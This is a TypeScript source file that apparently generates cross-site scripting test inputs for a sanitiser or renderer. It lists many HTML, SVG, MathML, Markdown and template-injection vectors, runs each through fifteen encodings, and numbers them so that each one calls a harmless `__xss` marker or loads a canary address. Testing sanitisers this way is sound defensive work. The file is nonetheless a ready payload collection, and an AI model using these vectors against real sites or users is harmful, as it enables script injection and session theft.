/**
 * Vectors that ran in some browser or passed some sanitiser. `JS` stands for a call that reports itself, `CANARY` for an
 * address that counts who asks for it.
 */
const VECTORS: readonly string[] = [
  // Elements that run of themselves.
  ..."<script>JS</script>|<script >JS</script >|<ScRiPt>JS</sCrIpT>|<script/x>JS</script>|<script\n>JS</script>".split(
    "|",
  ),
  ..."<script src=CANARY></script>|<script type=module>JS</script>|<scr<script>ipt>JS</scr</script>ipt>".split("|"),
  ..."<script>/*--><!--*/JS//--></script>|</script><script>JS</script>|<script>JS//|<svg><script>JS</script></svg>".split(
    "|",
  ),
  ...'<svg><script href="data:text/javascript,JS"/></svg>|<math><script>JS</script></math>'.split("|"),
  ...'<img src=x onerror=JS>|<img src=x onerror="JS">|<img/src=x/onerror=JS>|<img src=x:x onerror=JS//>'.split("|"),
  ..."<IMG SRC=x OnErRoR=JS>|<img src onerror=JS>|<img src=CANARY>|<image src=x onerror=JS>|<img\tsrc=x\nonerror\n=\nJS>".split(
    "|",
  ),
  ..."<img src=`x`onerror=JS>|<<img src=x onerror=JS>>|<img src=x onerror=JS alt='>'>|\"><img src=x onerror=JS>".split(
    "|",
  ),
  ..."'><img src=x onerror=JS>|--><img src=x onerror=JS>|]]><img src=x onerror=JS>|*/<img src=x onerror=JS>".split("|"),
  ..."<svg onload=JS>|<svg/onload=JS>|<svg><g onload=JS></g></svg>|<svg><image href=x onerror=JS></svg>".split("|"),
  ..."<svg><animate onbegin=JS attributeName=x dur=1s></svg>|<svg><set onbegin=JS attributename=x dur=1s></svg>".split(
    "|",
  ),
  ..."<svg><a xlink:href='javascript:JS'><text y=20>x</text></a></svg>|<svg><use href='data:image/svg+xml,x'/></svg>".split(
    "|",
  ),
  ..."<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>|<svg><style><img src=x onerror=JS></style></svg>".split(
    "|",
  ),
  ..."<svg><title><img src=x onerror=JS></title></svg>|<svg><desc><img src=x onerror=JS></desc></svg>".split("|"),
  ..."<math><mtext><img src=x onerror=JS></mtext></math>|<math href='javascript:JS'>x</math>".split("|"),
  ..."<math><mi//xlink:href='data:x,<img src=x onerror=JS>'>|<math><annotation-xml encoding=text/html><img src=x onerror=JS>".split(
    "|",
  ),
  ..."<body onload=JS>|<body onpageshow=JS>|<iframe src='javascript:JS'></iframe>|<iframe srcdoc='<img src=x onerror=parent.JS>'>".split(
    "|",
  ),
  ..."<iframe src=CANARY></iframe>|<iframe onload=JS></iframe>|<frameset onload=JS>|<object data='javascript:JS'></object>".split(
    "|",
  ),
  ..."<object data=CANARY></object>|<object onerror=JS data=x></object>|<embed src='javascript:JS'>|<embed src=CANARY>".split(
    "|",
  ),
  ..."<audio src=x onerror=JS>|<audio><source onerror=JS></audio>|<video src=x onerror=JS></video>".split("|"),
  ..."<video><source src=x onerror=JS></video>|<video poster=CANARY></video>|<track src=x onerror=JS>".split("|"),
  ..."<input autofocus onfocus=JS>|<select autofocus onfocus=JS>|<textarea autofocus onfocus=JS>|<button autofocus onfocus=JS>x</button>".split(
    "|",
  ),
  ..."<div tabindex=1 autofocus onfocus=JS>x</div>|<a href=# autofocus onfocus=JS>x</a>|<details open ontoggle=JS>x</details>".split(
    "|",
  ),
  ..."<input type=image src=x onerror=JS>|<isindex type=image src=x onerror=JS>|<keygen autofocus onfocus=JS>".split(
    "|",
  ),
  ..."<marquee onstart=JS>x</marquee>|<style onload=JS></style>|<link rel=stylesheet href=CANARY onerror=JS>".split(
    "|",
  ),
  ..."<link rel=preload as=script href=CANARY>|<meta http-equiv=refresh content='0;url=javascript:JS'>".split("|"),
  ..."<base href='javascript:JS//'>|<form action='javascript:JS'><button>x</button></form>|<button formaction='javascript:JS'>x</button>".split(
    "|",
  ),
  ..."<style>@import 'CANARY';</style>|<div style='background:url(CANARY)'>x</div>|<p style='animation:x' onanimationstart=JS>x</p>".split(
    "|",
  ),
  ..."<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=JS>x</p>|<dialog open onclose=JS>x</dialog>".split(
    "|",
  ),
  ..."<xss onpointerenter=JS>x</xss>|<p onmouseover=JS>x</p>|<b onclick=JS>x</b>|<p oncontentvisibilityautostatechange=JS style=content-visibility:auto>x".split(
    "|",
  ),
  ..."<custom-x onfocus=JS tabindex=1 autofocus>x</custom-x>|<template><script>JS</script></template>".split("|"),
  ..."<div><template shadowrootmode=open><img src=x onerror=JS></template></div>|<portal src='javascript:JS'></portal>".split(
    "|",
  ),
  // What parsers read differently from one another.
  ..."<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>|<textarea></textarea><img src=x onerror=JS>".split(
    "|",
  ),
  ..."<title></title><img src=x onerror=JS>|<xmp></xmp><img src=x onerror=JS>|<plaintext><img src=x onerror=JS>".split(
    "|",
  ),
  ..."<listing>&lt;img src=x onerror=JS&gt;</listing>|<!--><img src=x onerror=JS>-->|<!-- --!><img src=x onerror=JS>-->".split(
    "|",
  ),
  ..."<![CDATA[<img src=x onerror=JS>]]>|<?xml ?><img src=x onerror=JS>|<!DOCTYPE x [<!ENTITY y 'z'>]><img src=x onerror=JS>".split(
    "|",
  ),
  ..."<a id=x><a id=x name=y href='javascript:JS'>x</a>|<form id=getElementById><input name=body></form>|<img name=cookie>".split(
    "|",
  ),
  ..."<p id=__next_f>x</p>|<a id=self href='javascript:JS'>x</a>|<table background=CANARY><tr><td>x</table>".split("|"),
  ..."<a href='javascript:JS'>x</a>|<a href=' javascript:JS'>x</a>|<a href='java\tscript:JS'>x</a>|<a href='&#106;avascript:JS'>x</a>".split(
    "|",
  ),
  ..."<a href='data:text/html,<script>opener.JS</script>'>x</a>|<a href='vbscript:JS'>x</a>|<a href=\"\u0001javascript:JS\">x</a>".split(
    "|",
  ),
  ..."<area shape=default href='javascript:JS'>|<svg><a href='javascript:JS'><rect width=9 height=9 /></a></svg>".split(
    "|",
  ),
  // What Markdown makes links and images of.
  ..."[x](javascript:JS)|[x]( javascript:JS)|[x](<javascript:JS>)|[x](JaVaScRiPt:JS)|[x](javascript&colon;JS)".split(
    "|",
  ),
  ..."[x](java&#10;script:JS)|[x](&#x6A;avascript:JS)|[x](data:text/html,<script>JS</script>)|[x](vbscript:JS)".split(
    "|",
  ),
  ..."[x](//127.0.0.1/javascript:JS \"' onmouseover=JS\")|[x](https://x.example/'onmouseover='JS)|[x](\u0000javascript:JS)".split(
    "|",
  ),
  ...'![x](x "\' onerror=\'JS")|![x](javascript:JS)|![x](CANARY)|![<img src=x onerror=JS>](x)|![x" onerror="JS](x)'.split(
    "|",
  ),
  ..."<javascript:JS>|<JAVASCRIPT:JS>|[x][r]\n\n[r]: javascript:JS|[^1]\n\n[^1]: <img src=x onerror=JS>|[x](x){onclick=JS}".split(
    "|",
  ),
  ..."`<img src=x onerror=JS>`|~~<img src=x onerror=JS>~~|$\\unicode{<img src=x onerror=JS>}$|- [ ] <img src=x onerror=JS>".split(
    "|",
  ),
  ...[
    "```html onload=JS\n<img src=x onerror=JS>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=JS> | [x](javascript:JS) |",
  ],
  // Where a text stands inside a script, an attribute or a template.
  ..."';JS;'|\";JS;\"|`;JS;`|$\x7bJS}|{{JS}}|{{constructor.constructor('JS')()}}|<%= JS %>|#{JS}|\\u003cscript\\u003eJS\\u003c/script\\u003e".split(
    "|",
  ),
  ...'" onfocus=JS autofocus "|\' onfocus=JS autofocus \'|" onmouseover="JS|javascript:JS|javascript://%0aJS|data:text/html,<script>JS</script>'.split(
    "|",
  ),
  ..."</title><script>JS</script>|</textarea><script>JS</script>|</style><script>JS</script>|</noscript><script>JS</script>".split(
    "|",
  ),
  ...'\u2028JS\u2028|-JS-|1;JS|__proto__[innerHTML]=<img src=x onerror=JS>|{"__html":"<img src=x onerror=JS>"}|\\"><script>JS</script>'.split(
    "|",
  ),
];

const decimal = (text: string): string => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const spaced = (text: string): string => text.replaceAll("<", "< ");

/** How a text may be written so that one of the parsers on its way reads it anew. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll("javascript", "&#106;avascript"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.toUpperCase().replaceAll("__XSS", "__xss"),
  (text) => `**${text}**`,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `<div>${text}</div>`,
  (text) => `[${text}](https://x.example/${encodeURIComponent(text)} "${text.replaceAll('"', "'")}")`,
  (text) => `<a title="${text.replaceAll('"', "&quot;")}">x</a>`,
  spaced,
  (text) => (text.length < 60 ? decimal(text) : text.replaceAll("<", "<\u0000")),
];

export type Payload = { id: number; text: string };

/** Every vector in every encoding. Each calls `__xss` with its id, or asks for the canary's address with it. */
export function payloads(canary: string): Payload[] {
  return ENCODINGS.flatMap((encode) => VECTORS.map((vector) => ({ encode, vector }))).map(({ encode, vector }, id) => ({
    id,
    text: encode(vector.replaceAll("JS", `__xss(${id})`).replaceAll("CANARY", `${canary}/${id}`)),
  }));
}
